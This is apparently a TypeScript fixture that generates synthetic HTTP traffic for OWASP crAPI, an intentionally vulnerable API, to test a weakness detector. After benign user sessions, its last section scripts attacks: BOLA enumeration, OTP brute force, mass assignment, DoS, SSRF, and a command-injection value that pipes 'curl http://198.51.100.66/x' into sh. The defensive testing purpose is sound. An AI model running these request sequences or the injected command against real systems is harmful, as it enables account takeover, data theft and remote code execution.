/**
 * Realistic mirrored traffic of the two known-vulnerable APIs of corpus/openapi (OWASP crAPI and
 * VAmPI): benign users working through the documented operations as the projects' own front ends
 * do, plus the flaws their specs, READMEs and challenge lists describe, exercised the way a tester
 * would (the weakness acceptance test, test/corpus/vulnerable-apis.test.ts, runs detection on it).
 *
 * Responses are shaped like the real services' (field names and envelopes of crAPI's Java/Go/
 * Django services and VAmPI's Flask app): a login answers a JWT, VAmPI's `_debug` lists every user
 * with their password, crAPI's `posts/recent` names each author's email and vehicle id, a
 * mechanic report names its vehicle owner, VAmPI in debug mode answers a Werkzeug traceback to a
 * broken SQL query. Values are seeded (spec-traffic's Rng), the clock moves on, sessions of
 * different users interleave. The spec (loaded through spec-traffic) is returned beside the
 * exchanges so a test can check every request is a documented operation.
 *
 *   const t = crapiTraffic(1);     // { api: 'crAPI', host, spec, exchanges }
 */
import { createHash } from 'node:crypto';
import type { Exchange, Header } from '../../src/core/exchange.js';
import type { SpecResult } from '../../src/analysis/endpoints/openapi/types.js';
import { generateSpecTraffic, Rng } from './spec-traffic.js';

export interface VulnerableTraffic {
  api: 'crAPI' | 'VAmPI';
  specFile: string;
  host: string;
  spec: SpecResult;
  exchanges: Exchange[];
}

const START = Date.parse('2024-05-06T07:30:00.000Z');
const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
const HEX = '0123456789abcdef';
const b64url = (o: unknown): string => Buffer.from(JSON.stringify(o)).toString('base64url');

export function jwt(r: Rng, header: Record<string, unknown>, payload: Record<string, unknown>, sigLength: number): string {
  return `${b64url(header)}.${b64url(payload)}.${r.chars(B64URL, sigLength)}`;
}

const uuid = (r: Rng): string => `${r.chars(HEX, 8)}-${r.chars(HEX, 4)}-4${r.chars(HEX, 3)}-${r.pick(['8', '9', 'a', 'b'])}${r.chars(HEX, 3)}-${r.chars(HEX, 12)}`;

interface Client {
  ip: string;
  ua: string;
}

interface Call {
  method: string;
  url: string;
  /** bearer token (no authorization header without one) */
  token?: string;
  /** an object goes as JSON; a string as is with `contentType` */
  body?: unknown;
  contentType?: string;
  status: number;
  /** an object goes as JSON; a string with `resType` */
  response?: unknown;
  resType?: string;
  /** base64 body (images) */
  resBase64?: string;
  headers?: Header[];
  /** server time on top of the usual few ms (slow answers: ReDoS, repeated requests) */
  slowMs?: number;
  /** time since the previous call of the same session (default: a user's pace) */
  gapMs?: number;
}

/** One API's traffic being written: sessions of calls, each with its own clock, merged by time at the end. */
class Recorder {
  private readonly out: { at: number; ex: Exchange }[] = [];
  private n = 0;
  constructor(
    readonly api: string,
    readonly host: string,
    readonly serverIp: string,
    readonly rng: Rng,
  ) {}

  /** A session of one client starting at `at` (ms since START): returns `call`, which sends in order. */
  session(client: Client, at: number): (c: Call) => void {
    let t = START + at;
    return (c) => {
      t += c.gapMs ?? this.rng.int(800, 9000);
      this.out.push({ at: t, ex: this.exchange(client, t, c) });
    };
  }

  private exchange(client: Client, t: number, c: Call): Exchange {
    const r = this.rng;
    const headers: Header[] = [
      ['host', this.host],
      ['user-agent', client.ua],
      ['accept', c.resType && !/json/.test(c.resType) ? '*/*' : 'application/json, text/plain, */*'],
    ];
    if (c.token) headers.push(['authorization', `Bearer ${c.token}`]);
    headers.push(...(c.headers ?? []));
    const request: Exchange['request'] = { method: c.method, url: c.url, httpVersion: '1.1', headers };
    if (c.body !== undefined) {
      const text = typeof c.body === 'string' ? c.body : JSON.stringify(c.body);
      headers.push(['content-type', c.contentType ?? 'application/json'], ['content-length', String(Buffer.byteLength(text))]);
      request.body = text;
      request.bodyEncoding = 'utf8';
    }
    const ts = new Date(t);
    const resHeaders: Header[] = [['date', ts.toUTCString()], ['server', this.api === 'VAmPI' ? 'Werkzeug/2.2.3 Python/3.11.4' : 'openresty']];
    const response: NonNullable<Exchange['response']> = { status: c.status, httpVersion: '1.1', headers: resHeaders };
    if (c.resBase64 !== undefined) {
      resHeaders.push(['content-type', c.resType ?? 'application/octet-stream'], ['content-length', String(Buffer.from(c.resBase64, 'base64').length)]);
      response.body = c.resBase64;
      response.bodyEncoding = 'base64';
    } else if (c.response !== undefined) {
      const text = typeof c.response === 'string' ? c.response : JSON.stringify(c.response);
      resHeaders.push(['content-type', c.resType ?? 'application/json'], ['content-length', String(Buffer.byteLength(text))]);
      response.body = text;
      response.bodyEncoding = 'utf8';
    }
    const n = this.n++;
    return {
      v: 1,
      id: createHash('sha256').update(`${this.api}\n${n}`).digest('hex').slice(0, 16),
      ts: ts.toISOString(),
      durationMs: r.int(4, 180) + (c.slowMs ?? 0),
      client: { ip: client.ip, port: r.int(40000, 65000) },
      server: { ip: this.serverIp, port: 443 },
      request,
      response,
      source: `synthetic:vulnerable-apis:${this.api}`,
    };
  }

  exchanges(): Exchange[] {
    return this.out.sort((a, b) => a.at - b.at).map((x) => x.ex);
  }
}

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
];
const clientsFor = (n: number, net: string, r: Rng): Client[] => Array.from({ length: n }, (_, i) => ({ ip: `${net}.${20 + i * 7}`, ua: r.pick(BROWSERS) }));
/** the tester: Burp in front of a browser, then scripts */
const ATTACKER: Client = { ip: '198.51.100.66', ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0' };
const SCRIPT: Client = { ip: '198.51.100.66', ua: 'python-requests/2.31.0' };

// =============================================================================================
// crAPI (github.com/OWASP/crAPI): identity (Java), community (Go), workshop (Django) behind one gateway.

interface CrapiUser {
  name: string;
  email: string;
  number: string;
  password: string;
  vehicleId: string;
  vin: string;
  lat: string;
  lon: string;
  userId: number;
  client: Client;
  videoId: number;
  orders: number[];
  reports: number[];
}

const CRAPI_PEOPLE = [
  ['Adam', 'adam007'], ['Pogba', 'pogba006'], ['Robot', 'robot001'], ['Olivia Chen', 'olivia.chen'], ['Marcus Reed', 'mreed'],
  ['Sofia Alvarez', 'sofia.alvarez'], ['Hiro Tanaka', 'htanaka'], ['Grace Okafor', 'grace.okafor'], ['Lena Fischer', 'lfischer'], ['Noah Patel', 'noah.patel'],
] as const;
const PRODUCTS = [
  { id: 1, name: 'Seat', price: '10.00', image_url: 'images/seat.svg' },
  { id: 2, name: 'Wheel', price: '10.00', image_url: 'images/wheel.svg' },
];
const MECHANICS = [
  { id: 1, mechanic_code: 'TRAC_JHN', user: { email: 'jhon@example.com', number: '' } },
  { id: 2, mechanic_code: 'TRAC_JME', user: { email: 'james@example.com', number: '' } },
];

export function crapiTraffic(seed = 1): VulnerableTraffic {
  const specFile = 'owasp-crapi/crapi-openapi-spec.json';
  const { spec } = generateSpecTraffic(specFile, { seed, callsPerOperation: 1 });
  const r = new Rng(`${seed}:crapi`);
  const host = 'crapi.example.com';
  const rec = new Recorder('crAPI', host, '10.20.0.10', r);
  const clients = clientsFor(CRAPI_PEOPLE.length, '203.0.113', r);
  let nextOrder = 1;
  let nextReport = 1;
  let nextVideo = 40;
  const users: CrapiUser[] = CRAPI_PEOPLE.map(([name, handle], i) => ({
    name,
    email: `${handle}@example.com`,
    number: `${r.pick(['9', '8', '7'])}${r.chars('0123456789', 9)}`,
    password: `${handle.replace(/\W/g, '').replace(/^./, (c) => c.toUpperCase())}!${r.int(100, 999)}`,
    vehicleId: uuid(r),
    vin: `${r.int(0, 9)}${r.chars('ABCDEFGHJKLMNPRSTUVWXYZ', 4)}${r.int(10, 99)}${r.chars('ABCDEFGHJKLMNPRSTUVWXYZ', 3)}${r.chars('0123456789', 6)}`,
    lat: (r.int(32000000, 42000000) / 1e6).toFixed(6),
    lon: (-r.int(75000000, 122000000) / 1e6).toFixed(6),
    userId: i + 1,
    client: clients[i]!,
    videoId: 0,
    orders: [],
    reports: [],
  }));
  const token = (u: { email: string }, t: number): string =>
    jwt(r, { alg: 'RS256' }, { sub: u.email, iat: Math.floor(t / 1000), exp: Math.floor(t / 1000) + 604800, role: 'user' }, 342);
  const author = (u: CrapiUser) => ({ nickname: u.name, email: u.email, vehicleid: u.vehicleId, profile_pic_url: '', created_at: '2024-04-21T10:02:11.120Z' });

  // the community: posts by everyone, newest first
  const posts = Array.from({ length: 64 }, (_, i) => {
    const u = users[i % users.length]!;
    return { id: r.chars('ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789', 22), title: r.pick(['Engine light on', 'Best tyres for winter?', 'Road trip to Tahoe', 'Service experience', 'Battery drains overnight', 'Selling my roof rack']), content: r.pick(['Anyone seen this before?', 'Happy with the workshop, quick turnaround.', 'Any advice welcome.', 'Photos in the comments.']), author: author(u), comments: [] as unknown[], authorid: u.userId, CreatedAt: `2024-04-${String(30 - (i >> 2)).padStart(2, '0')}T${String(8 + (i % 12)).padStart(2, '0')}:15:00.000Z` };
  });
  const page = (limit: number, offset: number) => ({ posts: posts.slice(offset, offset + limit), next_offset: offset + limit < posts.length ? offset + limit : null, previous_offset: offset > 0 ? Math.max(0, offset - limit) : null, total: posts.length });
  const vehicle = (u: CrapiUser) => ({ id: u.userId, vin: u.vin, year: 2019 + (u.userId % 5), status: 'ACTIVE', uuid: u.vehicleId, pincode: String(1000 + u.userId * 37), owner: { email: u.email, number: u.number }, model: { model: 'Creta', fuel_type: 'DIESEL', vehiclecompany: { name: 'Hyundai' }, vehicle_img: 'images/hyundai-creta.jpg', id: 1 }, vehicleLocation: { id: u.userId, latitude: u.lat, longitude: u.lon } });
  const location = (u: CrapiUser) => ({ carId: u.vehicleId, vehicleLocation: { id: u.userId, latitude: u.lat, longitude: u.lon }, fullName: u.name, email: u.email });
  const order = (id: number, u: CrapiUser, p = PRODUCTS[id % 2]!, quantity = 1, status = 'delivered') => ({ order: { id, user: { email: u.email, number: u.number }, product: p, quantity, status, created_on: '2024-05-06T09:12:44.512Z' }, payment: { id, amount: (Number(p.price) * quantity).toFixed(2), paid_on: '2024-05-06T09:12:44.519Z', card_number: 'XXXXXXXXXXXX4242', card_owner_name: u.name, card_type: 'Visa', card_expiry: '11/27', currency: 'USD' } });
  const report = (id: number, u: CrapiUser) => ({ id, mechanic: MECHANICS[id % 2], vehicle: { id: u.userId, vin: u.vin, owner: { email: u.email, number: u.number } }, problem_details: r.pick(['Engine makes a ticking noise', 'Brakes squeal', 'Check-engine light stays on', 'AC blows warm air']), status: 'Pending', created_on: '06 May, 2024, 09:40:12', comments: [] });
  const reportOwner = new Map<number, CrapiUser>();
  const QR = Buffer.from('89504e470d0a1a0a0000000d4948445200000020000000200806000000737a7af4', 'hex').toString('base64');

  // --- benign sessions: every user, through the web front end, several times over the day
  users.forEach((u, ui) => {
    for (let s = 0; s < 3; s++) {
      const call = rec.session(u.client, ui * 600_000 + s * 3 * 3600_000 + r.int(0, 900_000));
      if (s === 0 && ui >= 3) {
        call({ method: 'POST', url: '/identity/api/auth/signup', body: { name: u.name, email: u.email, number: u.number, password: u.password }, status: 200, response: { message: 'User registered successfully! Please Login.', status: 200 } });
      }
      call({ method: 'GET', url: '/', status: 200, response: '<!doctype html><html lang="en"><head><meta charset="utf-8"/><title>crAPI</title><script defer="defer" src="/static/js/main.6c9d1f4e.js"></script></head><body><div id="root"></div></body></html>', resType: 'text/html' });
      call({ method: 'GET', url: '/static/js/main.6c9d1f4e.js', status: 200, response: '!function(){"use strict";var e={};e.API_URL="/";/* bundle */}();', resType: 'application/javascript', gapMs: 120 });
      call({ method: 'GET', url: '/favicon.ico', status: 200, resBase64: QR, resType: 'image/x-icon', gapMs: 60 });
      const tok = token(u, START + s * 3 * 3600_000);
      call({ method: 'POST', url: '/identity/api/auth/login', body: { email: u.email, password: u.password }, status: 200, response: { token: tok, type: 'Bearer', message: 'Login successful' } });
      call({ method: 'GET', url: '/identity/api/v2/user/dashboard', token: tok, status: 200, response: { id: u.userId, name: u.name, email: u.email, number: u.number, picture_url: null, video_url: null, video_name: null, available_credit: 100 + u.orders.length * 10, video_id: u.videoId || null, role: 'ROLE_USER' } });
      if (s === 0 && ui >= 3) {
        call({ method: 'POST', url: '/identity/api/v2/vehicle/add_vehicle', token: tok, body: { pincode: String(1000 + u.userId * 37), vin: u.vin }, status: 200, response: { message: 'Vehicle Added Successfully!', status: 200 } });
      }
      call({ method: 'GET', url: '/identity/api/v2/vehicle/vehicles', token: tok, status: 200, response: [vehicle(u)] });
      call({ method: 'GET', url: `/identity/api/v2/vehicle/${u.vehicleId}/location`, token: tok, status: 200, response: location(u) });
      call({ method: 'GET', url: '/community/api/v2/community/posts/recent?limit=30&offset=0', token: tok, status: 200, response: page(30, 0) });
      if (r.next() < 0.5) call({ method: 'GET', url: '/community/api/v2/community/posts/recent?limit=30&offset=30', token: tok, status: 200, response: page(30, 30) });
      const post = r.pick(posts);
      call({ method: 'GET', url: `/community/api/v2/community/posts/${post.id}`, token: tok, status: 200, response: post });
      if (s === 1) {
        const mine = { id: r.chars('ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789', 22), title: 'Service experience', content: 'Quick turnaround at the workshop.', author: author(u), comments: [], authorid: u.userId, CreatedAt: new Date(START).toISOString() };
        call({ method: 'POST', url: '/community/api/v2/community/posts', token: tok, body: { title: mine.title, content: mine.content }, status: 200, response: mine });
        call({ method: 'POST', url: `/community/api/v2/community/posts/${post.id}/comment`, token: tok, body: { content: 'Same here, thanks for sharing' }, status: 200, response: { ...post, comments: [{ id: r.chars('ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789', 22), content: 'Same here, thanks for sharing', CreatedAt: new Date(START).toISOString(), author: author(u) }] } });
      }
      call({ method: 'GET', url: '/workshop/api/shop/products', token: tok, status: 200, response: { products: PRODUCTS, credit: 100 } });
      if (s < 2) {
        const id = nextOrder++;
        u.orders.push(id);
        const p = PRODUCTS[id % 2]!;
        call({ method: 'POST', url: '/workshop/api/shop/orders', token: tok, body: { product_id: p.id, quantity: 1 }, status: 200, response: { id, message: 'Order sent successfully.', credit: 90 } });
      }
      call({ method: 'GET', url: '/workshop/api/shop/orders/all?limit=30&offset=0', token: tok, status: 200, response: { orders: u.orders.map((id) => order(id, u).order), next_offset: null, previous_offset: null, count: u.orders.length } });
      for (const id of u.orders.slice(-1)) call({ method: 'GET', url: `/workshop/api/shop/orders/${id}`, token: tok, status: 200, response: order(id, u) });
      if (s === 1 && ui % 3 === 0) {
        const id = u.orders[0]!;
        call({ method: 'POST', url: `/workshop/api/shop/orders/return_order?order_id=${id}`, token: tok, status: 200, response: { message: 'Please use the following QR code to return your order to a UPS store!', qr_code_url: 'http://crapi.example.com/workshop/api/shop/return_qr_code', order: order(id, u, undefined, 1, 'return pending').order } });
        call({ method: 'GET', url: '/workshop/api/shop/return_qr_code', token: tok, headers: [['accept', 'image/png']], status: 200, resBase64: QR, resType: 'image/png' });
      }
      if (s === 0) {
        call({ method: 'POST', url: '/community/api/v2/coupon/validate-coupon', token: tok, body: { coupon_code: 'TRAC075' }, status: 200, response: { coupon_code: 'TRAC075', amount: '75', CreatedAt: '2024-04-01T00:00:00.000Z' } });
        call({ method: 'POST', url: '/workshop/api/shop/apply_coupon', token: tok, body: { coupon_code: 'TRAC075', amount: 75 }, status: 200, response: { credit: 175, message: 'Coupon successfully applied!' } });
      }
      if (s === 1) {
        // contact a mechanic: the front end names the workshop's own receive_report API, which the workshop then calls
        const m = r.pick(MECHANICS);
        const id = nextReport++;
        u.reports.push(id);
        reportOwner.set(id, u);
        const problem = 'Engine makes a ticking noise';
        call({ method: 'GET', url: '/workshop/api/mechanic/', token: tok, status: 200, response: { mechanics: MECHANICS } });
        call({ method: 'POST', url: '/workshop/api/merchant/contact_mechanic', token: tok, body: { mechanic_code: m.mechanic_code, problem_details: problem, vin: u.vin, mechanic_api: 'http://crapi.example.com/workshop/api/mechanic/receive_report', repeat_request_if_failed: false, number_of_repeats: 1 }, status: 200, response: { response_from_mechanic_api: { id, sent: true, report_link: `http://crapi.example.com/workshop/api/mechanic/mechanic_report?report_id=${id}` }, status: 200 } });
        const internal = rec.session({ ip: '10.20.0.12', ua: 'python-requests/2.28.1' }, ui * 600_000 + s * 3 * 3600_000 + 60_000);
        internal({ method: 'GET', url: `/workshop/api/mechanic/receive_report?mechanic_code=${m.mechanic_code}&problem_details=${encodeURIComponent(problem)}&vin=${u.vin}`, status: 200, response: { id, sent: true, report_link: `http://crapi.example.com/workshop/api/mechanic/mechanic_report?report_id=${id}` } });
        call({ method: 'GET', url: `/workshop/api/mechanic/mechanic_report?report_id=${id}`, token: tok, status: 200, response: report(id, u) });
      }
      if (s === 2 && ui % 2 === 0) {
        const id = (u.videoId = nextVideo++);
        const vid = { id, video_name: 'drive.mp4', conversion_params: '-v codec h264', profileVideo: 'data:video/mp4;base64,AAAAIGZ0eXBpc29t' };
        call({ method: 'POST', url: '/identity/api/v2/user/videos', token: tok, body: '------WebKitFormBoundary7MA4YWxk\r\nContent-Disposition: form-data; name="file"; filename="drive.mp4"\r\nContent-Type: video/mp4\r\n\r\n\u0000\u0000\u0000 ftypisom\r\n------WebKitFormBoundary7MA4YWxk--\r\n', contentType: 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk', status: 200, response: vid });
        call({ method: 'GET', url: `/identity/api/v2/user/videos/${id}`, token: tok, status: 200, response: vid });
        call({ method: 'PUT', url: `/identity/api/v2/user/videos/${id}`, token: tok, body: { videoName: 'road-trip.mp4' }, status: 200, response: { ...vid, video_name: 'road-trip.mp4' } });
        call({ method: 'GET', url: `/identity/api/v2/user/videos/convert_video?video_id=${id}`, token: tok, status: 200, response: { message: 'Video conversion is still under development', status: 200 } });
      }
      if (s === 2 && ui % 4 === 1) {
        call({ method: 'POST', url: '/identity/api/v2/vehicle/resend_email', token: tok, status: 200, response: { message: 'Please check your Email for details of the vehicle.', status: 200 } });
        call({ method: 'POST', url: '/identity/api/v2/user/reset-password', token: tok, body: { email: u.email, password: (u.password = `${u.password}x`) }, status: 200, response: { message: 'Password reset successful.', status: 200 } });
      }
    }
  });

  // forgotten passwords, the documented way (the front end uses v3)
  for (const u of users.slice(4, 7)) {
    const call = rec.session(u.client, 5 * 3600_000 + u.userId * 300_000);
    call({ method: 'POST', url: '/identity/api/auth/forget-password', body: { email: u.email }, status: 200, response: { message: `OTP Sent on the provided email, ${u.email}`, status: 200 } });
    call({ method: 'POST', url: '/identity/api/auth/v3/check-otp', body: { email: u.email, otp: String(r.int(1000, 9999)), password: (u.password = `${u.password}R`) }, status: 200, response: { message: 'OTP verified', status: 200 }, gapMs: 45_000 });
  }
  // one email change
  {
    const u = users[5]!;
    const call = rec.session(u.client, 7 * 3600_000);
    const tok = token(u, START + 7 * 3600_000);
    call({ method: 'POST', url: '/identity/api/auth/login', body: { email: u.email, password: u.password }, status: 200, response: { token: tok, type: 'Bearer', message: 'Login successful' } });
    const newEmail = 'sofia.alvarez@example.org';
    call({ method: 'POST', url: '/identity/api/v2/user/change-email', token: tok, body: { old_email: u.email, new_email: newEmail }, status: 200, response: { message: 'The email change request has been sent to your new email.', status: 200 } });
    call({ method: 'POST', url: '/identity/api/v2/user/verify-email-token', token: tok, body: { old_email: u.email, new_email: newEmail, token: r.chars('ABCDEFGHJKLMNPQRSTUVWXYZ0123456789', 8) }, status: 200, response: { message: 'The email is successfully changed', status: 200 }, gapMs: 60_000 });
    call({ method: 'POST', url: '/identity/api/v2/user/pictures', token: tok, body: '------WebKitFormBoundaryQ2\r\nContent-Disposition: form-data; name="file"; filename="me.png"\r\nContent-Type: image/png\r\n\r\nPNG\r\n------WebKitFormBoundaryQ2--\r\n', contentType: 'multipart/form-data; boundary=----WebKitFormBoundaryQ2', status: 200, response: { name: u.name, email: newEmail, number: u.number, picture: 'data:image/png;base64,iVBORw0KGgo=', available_credit: 100, role: 'ROLE_USER' } });
  }
  // mechanics: sign up once, then work through their service requests (owners' contacts are what they need)
  MECHANICS.forEach((m, i) => {
    const mc: Client = { ip: `192.0.2.${40 + i}`, ua: BROWSERS[0]! };
    const call = rec.session(mc, 8 * 3600_000 + i * 600_000);
    const pw = `Mech${m.mechanic_code.slice(5)}!2024`;
    if (i === 1) call({ method: 'POST', url: '/workshop/api/mechanic/signup', body: { name: 'James', email: m.user.email, number: '9999900002', password: pw, mechanic_code: m.mechanic_code }, status: 200, response: { message: 'Mechanic created with email: james@example.com' } });
    const tok = jwt(r, { alg: 'RS256' }, { sub: m.user.email, iat: Math.floor((START + 8 * 3600_000) / 1000), exp: Math.floor((START + 8 * 3600_000) / 1000) + 604800, role: 'mechanic' }, 342);
    call({ method: 'POST', url: '/identity/api/auth/login', body: { email: m.user.email, password: pw }, status: 200, response: { token: tok, type: 'Bearer', message: 'Login successful' } });
    const mine = [...reportOwner].filter(([id]) => id % 2 === (i + 1) % 2);
    call({ method: 'GET', url: '/workshop/api/mechanic/service_requests?limit=30&offset=0', token: tok, status: 200, response: { service_requests: mine.map(([id, u]) => report(id, u)), next_offset: null, previous_offset: null, count: mine.length } });
  });
  // the shop's admin: a coupon, a product, the customer list of the back office
  {
    const admin = { email: 'admin@example.com' };
    const call = rec.session({ ip: '192.0.2.10', ua: BROWSERS[1]! }, 2 * 3600_000);
    const pw = 'Admin!123';
    const tok = jwt(r, { alg: 'RS256' }, { sub: admin.email, iat: Math.floor((START + 2 * 3600_000) / 1000), exp: Math.floor((START + 2 * 3600_000) / 1000) + 604800, role: 'admin' }, 342);
    call({ method: 'POST', url: '/identity/api/auth/login', body: { email: admin.email, password: pw }, status: 200, response: { token: tok, type: 'Bearer', message: 'Login successful' } });
    call({ method: 'POST', url: '/community/api/v2/coupon/new-coupon', token: tok, body: { coupon_code: 'TRAC075', amount: '75' }, status: 200, response: { message: 'Coupon added in database!' } });
    call({ method: 'POST', url: '/workshop/api/shop/products', token: tok, body: { name: 'Brake pad', price: '25.00', image_url: 'images/brake.svg' }, status: 200, response: { id: 3, name: 'Brake pad', price: '25.00', image_url: 'images/brake.svg' } });
    call({ method: 'GET', url: '/workshop/api/management/users/all?limit=30&offset=0', token: tok, status: 200, response: { users: users.map((u) => ({ user: { email: u.email, number: u.number }, available_credit: 100 })), next_offset: null, previous_offset: null, count: users.length } });
  }
  // the health checks the gateway's probes hit
  for (let k = 0; k < 24; k++) {
    const probe = rec.session({ ip: '10.20.0.2', ua: 'kube-probe/1.29' }, k * 900_000);
    probe({ method: 'GET', url: '/identity/health_check', status: 200, response: { status: 'UP' }, gapMs: 0 });
    probe({ method: 'GET', url: '/workshop/health_check/', status: 200, response: { status: 'ok' }, gapMs: 5 });
  }

  // =========================== the flaws, exercised by a tester with an ordinary account ======
  const hacker: CrapiUser = { ...users[0]!, name: 'Hacker', email: 'hacker@darkweb.com', number: '9876543210', password: 'Hacker!123', userId: 99, client: ATTACKER, vehicleId: uuid(r), orders: [], reports: [] };
  const call = rec.session(ATTACKER, 10 * 3600_000);
  const htok = token(hacker, START + 10 * 3600_000);
  call({ method: 'POST', url: '/identity/api/auth/signup', body: { name: hacker.name, email: hacker.email, number: hacker.number, password: hacker.password }, status: 200, response: { message: 'User registered successfully! Please Login.', status: 200 } });
  call({ method: 'POST', url: '/identity/api/auth/login', body: { email: hacker.email, password: hacker.password }, status: 200, response: { token: htok, type: 'Bearer', message: 'Login successful' } });
  // challenge 4: posts/recent hands out every author's email and vehicle id
  call({ method: 'GET', url: '/community/api/v2/community/posts/recent?limit=30&offset=0', token: htok, status: 200, response: page(30, 0) });
  call({ method: 'GET', url: '/community/api/v2/community/posts/recent?limit=30&offset=30', token: htok, status: 200, response: page(30, 30) });
  // challenge 1: BOLA, other users' vehicle location by the leaked vehicle ids
  for (const u of users.slice(0, 8)) call({ method: 'GET', url: `/identity/api/v2/vehicle/${u.vehicleId}/location`, token: htok, status: 200, response: location(u), gapMs: r.int(300, 1500) });
  // challenge 2: BOLA, mechanic reports by sequential report_id
  for (let id = 1; id <= 14; id++) {
    const u = reportOwner.get(id);
    call({ method: 'GET', url: `/workshop/api/mechanic/mechanic_report?report_id=${id}`, token: htok, ...(u ? { status: 200, response: report(id, u) } : { status: 404, response: { message: 'Report not found' } }), gapMs: r.int(200, 900) });
  }
  // challenge 14: order details answer without any token
  const anon = rec.session(SCRIPT, 10.5 * 3600_000);
  for (let id = 1; id < nextOrder; id++) {
    const owner = users.find((u) => u.orders.includes(id))!;
    anon({ method: 'GET', url: `/workshop/api/shop/orders/${id}`, status: 200, response: order(id, owner), gapMs: r.int(150, 600) });
  }
  // challenge 3: reset another user's password, brute-forcing the 4-digit OTP; v3 locks out, v2 (still deployed) does not
  const victim = users[1]!;
  call({ method: 'POST', url: '/identity/api/auth/forget-password', body: { email: victim.email }, status: 200, response: { message: `OTP Sent on the provided email, ${victim.email}`, status: 200 } });
  for (let k = 0; k < 12; k++) {
    call({ method: 'POST', url: '/identity/api/auth/v3/check-otp', body: { email: victim.email, otp: String(1000 + k), password: 'Pwned!2024' }, ...(k < 10 ? { status: 500, response: { message: 'Invalid OTP! Please try again..', status: 500 } } : { status: 503, response: { message: "You've exceeded the number of attempts.", status: 503 } }), gapMs: r.int(150, 400) });
  }
  const brute = rec.session(SCRIPT, 10.8 * 3600_000);
  for (let k = 0; k < 160; k++) {
    const hit = k === 159;
    brute({ method: 'POST', url: '/identity/api/auth/v2/check-otp', body: { email: victim.email, otp: String(2000 + k), password: 'Pwned!2024' }, ...(hit ? { status: 200, response: { message: 'OTP verified', status: 200 } } : { status: 500, response: { message: 'Invalid OTP! Please try again..', status: 500 } }), gapMs: r.int(40, 120) });
  }
  // the old login-with-token (v2.7) answers a token for any email; v4.0 refuses
  call({ method: 'POST', url: '/identity/api/auth/v4.0/user/login-with-token', body: { email: victim.email, token: 'abcdefgh' }, status: 403, response: { message: 'This endpoint is deprecated, please use login with password', status: 403 } });
  call({ method: 'POST', url: '/identity/api/auth/v2.7/user/login-with-token', body: { email: victim.email, token: 'abcdefgh' }, status: 200, response: { token: token(victim, START + 11 * 3600_000), type: 'Bearer', message: 'Login successful' } });
  // challenge 5 / 10: the video's internal conversion_params, then mass-assigned
  const hv = nextVideo++;
  const hvid = { id: hv, video_name: 'x.mp4', conversion_params: '-v codec h264', profileVideo: 'data:video/mp4;base64,AAAAIGZ0eXBpc29t' };
  call({ method: 'POST', url: '/identity/api/v2/user/videos', token: htok, body: '------WebKitFormBoundaryZ\r\nContent-Disposition: form-data; name="file"; filename="x.mp4"\r\nContent-Type: video/mp4\r\n\r\n\u0000\u0000\u0000 ftypisom\r\n------WebKitFormBoundaryZ--\r\n', contentType: 'multipart/form-data; boundary=----WebKitFormBoundaryZ', status: 200, response: hvid });
  call({ method: 'GET', url: `/identity/api/v2/user/videos/${hv}`, token: htok, status: 200, response: hvid });
  call({ method: 'PUT', url: `/identity/api/v2/user/videos/${hv}`, token: htok, body: { videoName: 'x.mp4', conversion_params: '-v codec h264 && curl http://198.51.100.66/x | sh' }, status: 200, response: { ...hvid, conversion_params: '-v codec h264 && curl http://198.51.100.66/x | sh' } });
  call({ method: 'GET', url: `/identity/api/v2/user/videos/convert_video?video_id=${hv}`, token: htok, status: 200, response: { message: 'Video conversion is still under development', status: 200 } });
  // challenge 7: BFLA, the admin delete with a user's token
  const victimVideo = users.find((u) => u.videoId)!.videoId;
  call({ method: 'DELETE', url: `/identity/api/v2/user/videos/${victimVideo}`, token: htok, status: 403, response: { message: 'Sorry, Didn\'t get any profile video name for the user.', status: 403 } });
  call({ method: 'DELETE', url: `/identity/api/v2/admin/videos/${victimVideo}`, token: htok, status: 200, response: { message: 'User video deleted successfully.', status: 200 } });
  // challenges 8 / 9: mass assignment on orders (status returned, negative quantity)
  const ho = nextOrder++;
  call({ method: 'POST', url: '/workshop/api/shop/orders', token: htok, body: { product_id: 1, quantity: 1 }, status: 200, response: { id: ho, message: 'Order sent successfully.', credit: 90 } });
  call({ method: 'PUT', url: `/workshop/api/shop/orders/${ho}`, token: htok, body: { product_id: 1, quantity: 1, status: 'returned' }, status: 200, response: { orders: order(ho, hacker, PRODUCTS[0], 1, 'returned').order } });
  call({ method: 'PUT', url: `/workshop/api/shop/orders/${ho}`, token: htok, body: { product_id: 1, quantity: -100 }, status: 200, response: { orders: order(ho, hacker, PRODUCTS[0], -100, 'delivered').order } });
  // challenge 6: layer-7 DoS through contact_mechanic's repeats; challenge 11: SSRF through mechanic_api
  call({ method: 'POST', url: '/workshop/api/merchant/contact_mechanic', token: htok, body: { mechanic_code: 'TRAC_JHN', problem_details: 'x', vin: hacker.vin, mechanic_api: 'http://192.0.2.1:81/', repeat_request_if_failed: true, number_of_repeats: 1000 }, status: 503, response: { message: 'Service unavailable. Seems like you caused layer 7 DoS :)' }, slowMs: 30_000 });
  call({ method: 'POST', url: '/workshop/api/merchant/contact_mechanic', token: htok, body: { mechanic_code: 'TRAC_JHN', problem_details: 'x', vin: hacker.vin, mechanic_api: 'https://www.google.com', repeat_request_if_failed: false, number_of_repeats: 1 }, status: 200, response: { response_from_mechanic_api: '<!doctype html><html itemscope="" itemtype="http://schema.org/WebPage" lang="en"><head><title>Google</title></head><body></body></html>', status: 200 } });
